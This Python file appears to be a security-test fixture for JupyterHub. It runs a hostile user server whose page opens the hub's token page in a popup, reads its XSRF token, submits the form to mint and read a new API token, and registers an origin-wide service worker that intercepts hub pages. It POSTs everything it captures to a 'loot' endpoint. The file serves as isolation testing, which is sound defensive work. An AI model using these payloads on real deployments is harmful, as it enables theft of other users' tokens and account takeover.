# Alice's hostile server for TestHostileAppReachesNoFurther: its page,
# opened by carol, tries to reach beyond /user/alice/ in carol's browser:
# a hub page opened with window.open (read its XSRF token, submit its
# form), and a service worker for the whole origin that would intercept
# the hub's pages later. What it got is POSTed back here and appended to
# the log file (argv[2]), one JSON object per line.
import http.server, json, os, sys
port, logfile = int(sys.argv[1]), sys.argv[2]

POPUP = b"""<!doctype html><html><head><meta name="referrer" content="no-referrer"><title>hostile</title></head><body>
<script>
const report = async (o) => fetch(location.pathname.replace(/[^/]*$/, '') + 'loot', {method: 'POST', body: JSON.stringify(o)});
(async () => {
  const out = {kind: 'popup'};
  try {
    const api = await fetch('/hub/api/users', {credentials: 'include'});
    out.api_users = api.status;
    out.api_users_body = (await api.text()).slice(0, 120);
    const w = window.open('/hub/token', 'x');
    out.opened = !!w;
    for (let i = 0; i < 50; i++) {
      await new Promise(r => setTimeout(r, 100));
      try {
        const f = w.document.querySelector('form[action$="token"] input[name=_xsrf]');
        if (f) { out.xsrf = !!f.value; w.document.querySelector('#note').value = 'via popup'; w.document.querySelector('form[action$="token"]').submit(); break; }
      } catch (e) { out.read_error = String(e); break; }
    }
    for (let i = 0; i < 50 && out.xsrf; i++) {
      await new Promise(r => setTimeout(r, 100));
      try { const t = w.document.querySelector('#new-token'); if (t) { out.token = t.value; break; } } catch (e) { out.read_error2 = String(e); break; }
    }
  } catch (e) { out.error = String(e); }
  await report(out);
  // A service worker for the whole origin, if the proxy lets the header through.
  try {
    const reg = await navigator.serviceWorker.register('sw.js', {scope: '/'});
    await report({kind: 'sw', registered: reg.scope});
  } catch (e) { await report({kind: 'sw', error: String(e)}); }
  document.title = 'done';
})();
</script></body></html>"""

SW = b"""self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => {
  const u = new URL(e.request.url);
  if (u.pathname.startsWith('/hub/') && e.request.mode === 'navigate') {
    e.respondWith((async () => {
      const r = await fetch(e.request);
      const body = await r.clone().text();
      const m = body.match(/name="_xsrf" value="([^"]+)"/);
      await fetch(SELF_PREFIX + 'loot', {method: 'POST', body: JSON.stringify({kind: 'sw-intercept', path: u.pathname, xsrf: !!m})});
      return r;
    })());
  }
});
"""

class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        prefix = os.environ.get("JUPYTERHUB_SERVICE_PREFIX", "/")
        if self.path.split("?")[0].endswith("/sw.js"):
            body = SW.replace(b"SELF_PREFIX", json.dumps(prefix).encode())
            ctype = "text/javascript"
            extra = [("Service-Worker-Allowed", "/")]
        else:
            body, ctype, extra = POPUP, "text/html", []
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        for k, v in extra:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        fd = os.open(logfile, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        with os.fdopen(fd, "a") as f:
            f.write(body.decode("utf-8", "replace").replace("\n", " ") + "\n")
        self.send_response(204)
        self.end_headers()

    def log_message(self, *a):
        pass

http.server.ThreadingHTTPServer(("127.0.0.1", port), App).serve_forever()
